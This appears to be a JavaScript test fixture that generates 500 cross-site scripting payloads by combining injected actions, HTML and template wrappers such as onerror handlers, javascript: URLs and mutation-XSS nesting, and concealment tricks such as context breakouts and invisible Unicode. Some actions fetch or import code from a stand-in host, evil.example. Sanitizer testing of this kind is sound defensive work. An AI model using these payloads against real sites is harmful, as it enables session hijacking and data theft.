// Five hundred ways to smuggle script or markup, by combination: what might run, how it is dressed, how it is
// hidden. Each would set window.__ran or ask evil.example.
const acts = [
    "window.__ran=1",
    "fetch('//evil.example/')",
    "top.__ran=1",
    "import('//evil.example/x.js')",
    "document.title='ran'",
];
const dresses = [
    (act) => `<script>${act}</script>`,
    (act) => `<img src=x onerror="${act}">`,
    (act) => `<svg onload="${act}"></svg>`,
    (act) => `<svg><script>${act}</script></svg>`,
    (act) => `<iframe srcdoc="<script>parent.__ran=1;${act}</script>"></iframe>`,
    (act) => `<a href="javascript:${act}" autofocus onfocus="${act}">x</a>`,
    (act) => `<details open ontoggle="${act}">x</details>`,
    (act) => `<input autofocus onfocus="${act}">`,
    (act) => `<math><mtext><table><mglyph><style><img src=x onerror="${act}">`,
    (act) => `<video><source onerror="${act}"></video>`,
    (act) => `<body onload="${act}">`,
    (act) => `<object data="javascript:${act}"></object>`,
    (act) => `<style>@import '//evil.example/a.css';*{background:url(//evil.example/b)}</style><i onclick="${act}">`,
    (act) =>
        `<link rel="stylesheet" href="//evil.example/c.css"><meta http-equiv="refresh" content="0;url=javascript:${act}">`,
    (act) => `<form action="//evil.example/"><button autofocus formaction="javascript:${act}">`,
    (act) => `{{constructor.constructor("${act}")()}}`,
    (act) => `\${${act}}`,
    (act) => `javascript:${act}`,
    (act) => `<base href="//evil.example/"><noscript><p title="</noscript><img src=x onerror=${act}>">`,
    (act) => `<marquee onstart="${act}">x</marquee>`,
];
const hides = [
    (text) => text,
    (text) => `"'>${text}`,
    (text) => `</textarea></title></style></script>-->${text}`,
    (text) => `\u202e${text}\u2066\u200b\ufeff`,
    (text) =>
        text
            .replace(/</g, "<\u00ad")
            .replace(/^<\u00ad/, "<")
            .toUpperCase(),
];
export const payloads = hides.flatMap((hide) => dresses.flatMap((dress) => acts.map((act) => hide(dress(act)))));
